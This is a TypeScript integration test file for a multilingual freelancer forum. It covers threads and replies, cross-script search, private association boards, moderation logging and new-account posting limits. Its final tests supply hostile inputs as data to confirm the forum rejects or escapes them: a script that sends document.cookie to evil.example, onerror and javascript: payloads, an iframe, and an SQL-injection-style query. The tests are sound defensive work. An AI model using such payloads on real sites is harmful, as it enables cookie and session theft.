// The forum over HTTP, as people use it: starting threads and replying in Urdu, English and Roman
// Urdu, quoting, search across scripts, an association's private board (not found for strangers and
// non-members), reports and moderation (only by moderators, admins and the board's officers, every
// action logged), a locked thread, the posting limit of new accounts, and a post with a script in it.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type TestEnv, testEnv, visibleText } from '../../test/support.ts';
import { type Person, person } from '../../test/world.ts';

let env: TestEnv;
let admin: Person;
let ayesha: Person; // a designer in Multan, officer of the Multan Women Designers
let fatima: Person; // a member of the association
let bilal: Person; // a developer, member of nothing
let sana: Person; // a moderator (role granted by the admin)
let associationId: string;
const SLUG = 'multan-women-designers';

const DAY = 86_400_000;
const db = () => env.deps.db;

/** An association and its members, written as rows (the associations module owns the use cases). */
async function association(slug: string, officer: Person, members: Person[], pending: Person[] = []) {
  const now = env.clock.now();
  const a = await db()
    .insertInto('associations')
    .values({ slug, name_en: 'Multan Women Designers', name_ur: 'ملتان ویمن ڈیزائنرز', city_slug: 'multan', join_mode: 'request', created_by: officer.user.id, created_at: now, updated_at: now })
    .returning('id')
    .executeTakeFirstOrThrow();
  const row = (p: Person, role: 'member' | 'officer', status: 'active' | 'pending') => ({
    association_id: a.id,
    user_id: p.user.id,
    status,
    role,
    requested_at: now,
    joined_at: status === 'active' ? now : null,
  });
  await db()
    .insertInto('association_members')
    .values([row(officer, 'officer', 'active'), ...members.map((m) => row(m, 'member', 'active')), ...pending.map((m) => row(m, 'member', 'pending'))])
    .execute();
  return a.id;
}

/** An account old enough not to be held by the new-account limit. */
const age = (p: Person, days: number) =>
  db()
    .updateTable('users')
    .set({ created_at: new Date(env.clock.now().getTime() - days * DAY) })
    .where('id', '=', p.user.id)
    .execute();

async function startThread(p: Person, board: string, title: string, body: string) {
  const res = await p.client.post(`${board}/threads`, { title, body });
  expect(res.status, await res.clone().text()).toBe(303);
  const id = /\/forum\/t\/([0-9a-f-]{36})/.exec(res.headers.get('location') ?? '')?.[1];
  expect(id).toBeTruthy();
  return id as string;
}

const page = async (p: Person | null, path: string) => {
  const res = p ? await p.client.get(path) : await env.app.request(`http://localhost:3000${path}`);
  return { status: res.status, html: await res.text() };
};
const postsOf = (threadId: string) => db().selectFrom('forum_posts').selectAll().where('thread_id', '=', threadId).orderBy('created_at').execute();
const forumLog = () => db().selectFrom('audit_events').selectAll().where('kind', 'like', 'forum.%').orderBy('created_at').execute();

beforeAll(async () => {
  env = await testEnv();
  admin = await person(env, 'Admin', { role: 'admin' });
  ayesha = await person(env, 'Ayesha Siddiqui', { role: 'freelancer', locale: 'ur' });
  fatima = await person(env, 'Fatima Zahra', { role: 'freelancer' });
  bilal = await person(env, 'Bilal Ahmed', { role: 'freelancer' });
  sana = await person(env, 'Sana Moderator', { role: 'freelancer' });
  for (const p of [admin, ayesha, fatima, bilal, sana]) await age(p, 30);
  await db().insertInto('user_roles').values({ user_id: sana.user.id, role: 'moderator', granted_by: admin.user.id, granted_at: env.clock.now(), note: 'forum moderator' }).execute();
  associationId = await association(SLUG, ayesha, [fatima], [bilal]);
});
afterAll(() => env.close());

describe('threads and replies', () => {
  let threadId: string;

  it('starts a thread in Urdu and shows it on its board and on /forum', async () => {
    threadId = await startThread(ayesha, '/forum/c/getting-started', 'پہلا کلائنٹ کیسے ملے؟', 'میں نے **تین مہینے** سے گِگ بنائی ہوئی ہے لیکن ابھی تک کوئی آرڈر نہیں آیا۔ آپ کا پہلا کلائنٹ کیسے ملا؟');
    const thread = await page(bilal, `/forum/t/${threadId}`);
    expect(thread.status).toBe(200);
    expect(visibleText(thread.html)).toContain('پہلا کلائنٹ کیسے ملے؟');
    expect(thread.html).toContain('<strong>تین مہینے</strong>');
    expect(visibleText((await page(null, '/forum/c/getting-started')).html)).toContain('پہلا کلائنٹ کیسے ملے؟');
    expect(visibleText((await page(null, '/forum')).html)).toContain('پہلا کلائنٹ کیسے ملے؟');
  });

  it('takes replies in English and Roman Urdu, quotes one, and tells the thread’s author', async () => {
    const first = await bilal.client.post(`/forum/t/${threadId}/replies`, { body: 'My first client came from a local Facebook group, not Fiverr. Offer one small job cheaply and ask for a review.' });
    expect(first.status).toBe(303);
    const [, bilalPost] = await postsOf(threadId);
    const quoted = await fatima.client.post(`/forum/t/${threadId}/replies`, { body: 'Bilal bhai ne sahi kaha, pehla review sab se zaroori hai.', quote: bilalPost!.id });
    expect(quoted.status).toBe(303);
    const html = (await page(ayesha, `/forum/t/${threadId}`)).html;
    const text = visibleText(html);
    expect(text).toContain('Bilal Ahmed نے لکھا:');
    expect(text).toContain('My first client came from a local Facebook group');
    expect(text).toContain('pehla review sab se zaroori hai');
    const posts = await postsOf(threadId);
    expect(posts.map((p) => p.quote_post_id)).toEqual([null, null, bilalPost!.id]);
    const thread = await db().selectFrom('forum_threads').select('reply_count').where('id', '=', threadId).executeTakeFirstOrThrow();
    expect(thread.reply_count).toBe(2);
    // Ayesha started the thread; Bilal was quoted: each is told, in their own language.
    const told = await db().selectFrom('notifications').select(['user_id', 'kind']).where('kind', '=', 'forum_reply').execute();
    expect(told.filter((n) => n.user_id === ayesha.user.id)).toHaveLength(2);
    expect(told.filter((n) => n.user_id === bilal.user.id)).toHaveLength(1);
    expect(told.filter((n) => n.user_id === fatima.user.id)).toHaveLength(0);
  });

  it('refuses a quote from another thread, and an empty reply, changing nothing', async () => {
    const other = await startThread(bilal, '/forum/c/skills', 'Figma or Canva for social media posts?', 'Clients keep asking for Canva files. Is Figma still worth learning?');
    const [opening] = await postsOf(other);
    const before = (await postsOf(threadId)).length;
    const res = await fatima.client.post(`/forum/t/${threadId}/replies`, { body: 'Figma.', quote: opening!.id });
    expect(res.status).toBe(400);
    expect(visibleText(await res.text())).toContain('The post you quoted is not in this thread');
    expect((await bilal.client.post(`/forum/t/${threadId}/replies`, { body: '' })).status).toBe(400);
    expect((await postsOf(threadId)).length).toBe(before);
  });

  it('does the same through the API', async () => {
    const res = await bilal.client.json('POST', '/api/v1/forum/categories/tax-payments/threads', { title: 'PRC for Payoneer payouts?', body: 'Does the bank issue a PRC for Payoneer withdrawals to my Meezan account? I need it for the 0.25% final tax.' });
    expect(res.status).toBe(201);
    const { thread } = (await res.json()) as { thread: string };
    const reply = await ayesha.client.json('POST', `/api/v1/forum/threads/${thread}/replies`, { body: 'جی ہاں، بینک سے پی آر سی مانگیں، پرپز کوڈ 9186 کے ساتھ۔' });
    expect(reply.status).toBe(201);
    const got = (await (await fatima.client.get(`/api/v1/forum/threads/${thread}`)).json()) as { posts: { body: string }[]; thread: { reply_count: number } };
    expect(got.thread.reply_count).toBe(1);
    expect(got.posts[1]!.body).toContain('پی آر سی');
    expect((await fatima.client.get('/api/v1/forum/categories/no-such/threads')).status).toBe(404);
  });
});

describe('search', () => {
  beforeAll(async () => {
    await startThread(fatima, '/forum/c/clients-contracts', 'Logo ki price kitni rakhun?', 'Ek client Lahore se hai, logo design ke liye Rs 5,000 offer kar raha hai. Kya yeh theek hai?');
    await startThread(ayesha, '/forum/c/tax-payments', 'پائونیر سے جاز کیش میں رقم', 'پائونیر سے پیسے سیدھے جاز کیش والٹ میں کیسے منگوائیں؟');
    await startThread(fatima, `/forum/a/${SLUG}`, 'Private: rates we agreed for Multan', 'Members only: our minimum for a logo is Rs 8,000.');
  });

  const hits = async (p: Person | null, q: string) => {
    const { html } = await page(p, `/forum/search?q=${encodeURIComponent(q)}`);
    return visibleText(html);
  };

  it('finds Urdu text by Urdu words, with Arabic-keyboard letters too', async () => {
    expect(await hits(bilal, 'پہلا کلائنٹ')).toContain('پہلا کلائنٹ کیسے ملے؟');
    // ي and ك from an Arabic keyboard read as ی and ک.
    expect(await hits(bilal, 'كيسے')).toContain('پہلا کلائنٹ کیسے ملے؟');
  });

  it('finds Roman Urdu text by Roman Urdu words, in the title or the posts', async () => {
    expect(await hits(bilal, 'logo price')).toContain('Logo ki price kitni rakhun?');
    expect(await hits(bilal, 'pehla review')).toContain('پہلا کلائنٹ کیسے ملے؟');
  });

  it('meets a word across scripts by its sound', async () => {
    expect(await hits(bilal, 'payoneer')).toContain('پائونیر سے جاز کیش میں رقم');
    expect(await hits(bilal, 'پائونیر')).toContain('PRC for Payoneer payouts?');
    const api = (await (await bilal.client.get(`/api/v1/forum/search?q=${encodeURIComponent('payoneer')}`)).json()) as { hits: { thread: { title: string } }[] };
    expect(api.hits.map((h) => h.thread.title)).toEqual(expect.arrayContaining(['PRC for Payoneer payouts?', 'پائونیر سے جاز کیش میں رقم']));
  });

  it('finds a private board’s thread for its members only', async () => {
    expect(await hits(fatima, 'minimum logo')).toContain('Private: rates we agreed for Multan');
    expect(await hits(bilal, 'minimum logo')).not.toContain('Private: rates we agreed for Multan');
    expect(await hits(null, 'minimum logo')).not.toContain('Private: rates we agreed for Multan');
  });

  it('answers a query of only punctuation with nothing, not an error', async () => {
    const res = await bilal.client.get(`/forum/search?q=${encodeURIComponent("'); DROP TABLE --")}`);
    expect(res.status).toBe(200);
  });
});

describe('private boards', () => {
  let privateThread: string;
  beforeAll(async () => {
    privateThread = await startThread(ayesha, `/forum/a/${SLUG}`, 'Meet-up at the Multan e-Rozgaar centre', 'Officers will bring the sign-up sheet. Bring your portfolio on a phone.');
  });

  it('shows the board and its threads to members', async () => {
    const board = await page(fatima, `/forum/a/${SLUG}`);
    expect(board.status).toBe(200);
    expect(visibleText(board.html)).toContain('Meet-up at the Multan e-Rozgaar centre');
    expect((await page(fatima, `/forum/t/${privateThread}`)).status).toBe(200);
    expect(visibleText((await page(fatima, '/forum')).html)).toContain('Multan Women Designers');
  });

  it('is not found for strangers, for people whose request is pending, and through the API', async () => {
    for (const who of [null, bilal]) {
      expect((await page(who, `/forum/a/${SLUG}`)).status).toBe(404);
      expect((await page(who, `/forum/t/${privateThread}`)).status).toBe(404);
    }
    expect((await bilal.client.get(`/api/v1/forum/associations/${SLUG}/threads`)).status).toBe(404);
    expect((await bilal.client.get(`/api/v1/forum/threads/${privateThread}`)).status).toBe(404);
    // Unknown and private look the same.
    expect((await page(bilal, '/forum/a/no-such-association')).status).toBe(404);
  });

  it('takes no posts from non-members, changing nothing', async () => {
    const before = (await postsOf(privateThread)).length;
    expect((await bilal.client.post(`/forum/t/${privateThread}/replies`, { body: 'Can I come too?' })).status).toBe(404);
    expect((await bilal.client.post(`/forum/a/${SLUG}/threads`, { title: 'Let me in please', body: 'Hello hello' })).status).toBe(404);
    expect((await postsOf(privateThread)).length).toBe(before);
  });

  it('closes to everyone but staff when the association is suspended', async () => {
    await db().updateTable('associations').set({ status: 'suspended', suspended_at: env.clock.now(), suspended_by: admin.user.id }).where('id', '=', associationId).execute();
    try {
      expect((await page(fatima, `/forum/t/${privateThread}`)).status).toBe(404);
      expect((await page(sana, `/forum/t/${privateThread}`)).status).toBe(200);
    } finally {
      await db().updateTable('associations').set({ status: 'active', suspended_at: null, suspended_by: null }).where('id', '=', associationId).execute();
    }
  });
});

describe('moderation', () => {
  let threadId: string;
  let spamId: string;
  beforeAll(async () => {
    threadId = await startThread(fatima, '/forum/c/women-freelancers', 'Working night shifts for US clients safely', 'How do you handle late calls with clients in the US while living with family? Tips welcome.');
    await bilal.client.post(`/forum/t/${threadId}/replies`, { body: 'Earn $500 a day!!! Message me on WhatsApp 0300-0000000' });
    spamId = (await postsOf(threadId))[1]!.id;
  });

  it('takes a report once and puts it in the moderators’ queue', async () => {
    expect((await fatima.client.post(`/forum/p/${spamId}/report`, { reason: 'spam', note: 'Scam number' })).status).toBe(303);
    const again = await fatima.client.post(`/forum/p/${spamId}/report`, { reason: 'spam', note: '' });
    expect(again.status).toBe(409);
    expect(visibleText(await again.text())).toContain('You have already reported this post');
    expect((await bilal.client.post(`/forum/p/${spamId}/report`, { reason: 'spam' })).status).toBe(409);
    const queue = await page(sana, '/forum/moderation');
    expect(queue.status).toBe(200);
    expect(visibleText(queue.html)).toContain('Fatima Zahra reported a post by Bilal Ahmed: Spam or advertising');
  });

  it('lets no one else moderate: not a reader, not an officer outside their board', async () => {
    for (const who of [bilal, fatima, ayesha]) {
      expect((await who.client.post(`/forum/p/${spamId}/moderate`, { action: 'hide', reason: 'spam' })).status).toBe(403);
      expect((await who.client.post(`/forum/t/${threadId}/moderate`, { action: 'lock', reason: '' })).status).toBe(403);
    }
    expect((await bilal.client.json('POST', `/api/v1/forum/threads/${threadId}/moderation`, { action: 'pin' })).status).toBe(403);
    expect((await bilal.client.get('/forum/moderation')).status).toBe(403);
    const post = await db().selectFrom('forum_posts').select('hidden_at').where('id', '=', spamId).executeTakeFirstOrThrow();
    expect(post.hidden_at).toBeNull();
    expect(await forumLog()).toEqual([]);
  });

  it('asks a moderator for a reason to hide, then hides the post from readers and resolves its report', async () => {
    const noReason = await sana.client.post(`/forum/p/${spamId}/moderate`, { action: 'hide', reason: '' });
    expect(noReason.status).toBe(400);
    expect(visibleText(await noReason.text())).toContain('Write a reason to hide it');
    expect((await sana.client.post(`/forum/p/${spamId}/moderate`, { action: 'hide', reason: 'Scam: asks for money on WhatsApp' })).status).toBe(303);
    const reader = visibleText((await page(fatima, `/forum/t/${threadId}`)).html);
    expect(reader).toContain('A moderator hid this post.');
    expect(reader).not.toContain('WhatsApp 0300');
    const api = (await (await fatima.client.get(`/api/v1/forum/threads/${threadId}`)).json()) as { posts: { hidden: boolean; body: string }[] };
    expect(api.posts[1]).toMatchObject({ hidden: true, body: '' });
    expect(visibleText((await page(sana, `/forum/t/${threadId}`)).html)).toContain('Reason: Scam: asks for money on WhatsApp');
    const report = await db().selectFrom('forum_reports').selectAll().where('post_id', '=', spamId).executeTakeFirstOrThrow();
    expect(report).toMatchObject({ resolution: 'hidden', resolved_by: sana.user.id });
    // Hidden text is no longer found by search.
    expect(visibleText((await page(bilal, '/forum/search?q=whatsapp')).html)).not.toContain('Working night shifts');
  });

  it('pins and locks: a locked thread refuses replies on the page and through the API, and says so', async () => {
    expect((await sana.client.post(`/forum/t/${threadId}/moderate`, { action: 'pin', reason: '' })).status).toBe(303);
    expect((await admin.client.post(`/forum/t/${threadId}/moderate`, { action: 'lock', reason: 'Answered; see the pinned guide' })).status).toBe(303);
    const board = visibleText((await page(null, '/forum/c/women-freelancers')).html);
    expect(board).toContain('Pinned');
    expect(board).toContain('Locked');
    const before = (await postsOf(threadId)).length;
    const res = await bilal.client.post(`/forum/t/${threadId}/replies`, { body: 'One more thing...' });
    expect(res.status).toBe(409);
    expect(visibleText(await res.text())).toContain('This thread is locked');
    const api = await bilal.client.json('POST', `/api/v1/forum/threads/${threadId}/replies`, { body: 'One more thing...' });
    expect(api.status).toBe(409);
    expect(((await api.json()) as { title: string }).title).toContain('This thread is locked');
    expect((await postsOf(threadId)).length).toBe(before);
    expect(visibleText((await page(fatima, `/forum/t/${threadId}`)).html)).toContain('This thread is locked: no new replies.');
    // Locking a locked thread changes nothing and is refused, so the log holds only real changes.
    expect((await sana.client.post(`/forum/t/${threadId}/moderate`, { action: 'lock', reason: '' })).status).toBe(409);
  });

  it('lets an officer moderate their own private board', async () => {
    const t = await startThread(fatima, `/forum/a/${SLUG}`, 'Selling a used drawing tablet', 'Wacom, Rs 12,000, Multan only.');
    expect((await ayesha.client.post(`/forum/t/${t}/moderate`, { action: 'hide', reason: 'Sales go in the buy-and-sell thread' })).status).toBe(303);
    // Hidden: members no longer see it; the officer still does.
    expect((await page(fatima, `/forum/t/${t}`)).status).toBe(404);
    expect((await page(ayesha, `/forum/t/${t}`)).status).toBe(200);
    const queue = visibleText((await page(ayesha, '/forum/moderation')).html);
    expect(queue).toContain('Ayesha Siddiqui نے تھریڈ “Selling a used drawing tablet” چھپایا');
    // The officer's log holds their board's actions only.
    expect(queue).not.toContain('Working night shifts');
  });

  it('logs every action with who, what, and why', async () => {
    const log = await forumLog();
    expect(log.map((e) => [e.kind, e.actor_id])).toEqual([
      ['forum.post.hide', sana.user.id],
      ['forum.thread.pin', sana.user.id],
      ['forum.thread.lock', admin.user.id],
      ['forum.thread.hide', ayesha.user.id],
    ]);
    expect(log[0]!.data).toMatchObject({ board: 'women-freelancers', thread: threadId, reason: 'Scam: asks for money on WhatsApp' });
    expect(log[3]!.data).toMatchObject({ board: SLUG, association: associationId, after: { hidden: true } });
    const staffLog = visibleText((await page(sana, '/forum/moderation')).html);
    expect(staffLog).toContain('Admin locked “Working night shifts for US clients safely” (Answered; see the pinned guide)');
  });
});

describe('new accounts', () => {
  it('holds an account younger than 7 days to 3 posts an hour, with a message, and lets it post again later', async () => {
    const zara = await person(env, 'Zara New', { role: 'freelancer' });
    const thread = await startThread(zara, '/forum/c/getting-started', 'Hello from Bahawalpur', 'Just joined, learning logo design.');
    for (let i = 0; i < 2; i++) expect((await zara.client.post(`/forum/t/${thread}/replies`, { body: `Update ${i + 1}` })).status).toBe(303);
    const fourth = await zara.client.post(`/forum/t/${thread}/replies`, { body: 'Update 3' });
    expect(fourth.status).toBe(429);
    expect(fourth.headers.get('retry-after')).toBeTruthy();
    expect(visibleText(await fourth.text())).toContain('New accounts (less than 7 days old) can post 3 times an hour and 10 times a day.');
    expect((await postsOf(thread)).length).toBe(3);
    const api = await zara.client.json('POST', '/api/v1/forum/categories/skills/threads', { title: 'Another question', body: 'Which laptop?' });
    expect(api.status).toBe(429);
    // An hour later the window has passed.
    env.clock.advance(3_600_000);
    expect((await zara.client.post(`/forum/t/${thread}/replies`, { body: 'Update 3' })).status).toBe(303);
    // An older account is not held to it.
    for (let i = 0; i < 5; i++) expect((await bilal.client.post(`/forum/t/${thread}/replies`, { body: `Welcome, reply ${i + 1}` })).status).toBe(303);
  });
});

describe('scripts in posts', () => {
  it('refuses an HTML tag outside code with a translated message, storing nothing', async () => {
    const before = await db().selectFrom('forum_threads').select((eb) => eb.fn.countAll<string>().as('n')).executeTakeFirstOrThrow();
    const res = await bilal.client.post('/forum/c/skills/threads', { title: 'Free tool for clients', body: 'Click here <script>document.location="https://evil.example/?c="+document.cookie</script>' });
    expect(res.status).toBe(400);
    expect(visibleText(await res.text())).toContain('HTML tags are not accepted here');
    const urdu = await ayesha.client.post('/forum/c/skills/threads', { title: 'ایک مفت ٹول', body: '<img src=x onerror=alert(1)>' });
    expect(urdu.status).toBe(400);
    expect(visibleText(await urdu.text())).toContain('یہاں HTML ٹیگز قبول نہیں کیے جاتے');
    const api = await bilal.client.json('POST', '/api/v1/forum/categories/skills/threads', { title: 'Free tool', body: '<iframe src="https://evil.example"></iframe>' });
    expect(api.status).toBe(400);
    const after = await db().selectFrom('forum_threads').select((eb) => eb.fn.countAll<string>().as('n')).executeTakeFirstOrThrow();
    expect(after.n).toBe(before.n);
  });

  it('shows a script inside code as text, and a javascript: link as its words, so nothing runs', async () => {
    const id = await startThread(bilal, '/forum/c/skills', 'Why does my script tag run twice?', 'My WordPress theme has:\n\n```html\n<script src="app.js"></script><script>alert("xss")</script>\n```\n\nand `<img onerror=alert(1)>` inline. [Click me](javascript:alert(1))');
    const { html } = await page(fatima, `/forum/t/${id}`);
    expect(html).toContain('&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt;');
    expect(html).not.toContain('<script>alert');
    expect(html).not.toContain('<img onerror');
    expect(html).not.toContain('javascript:');
    expect(visibleText(html)).toContain('<script>alert("xss")</script>');
  });
});
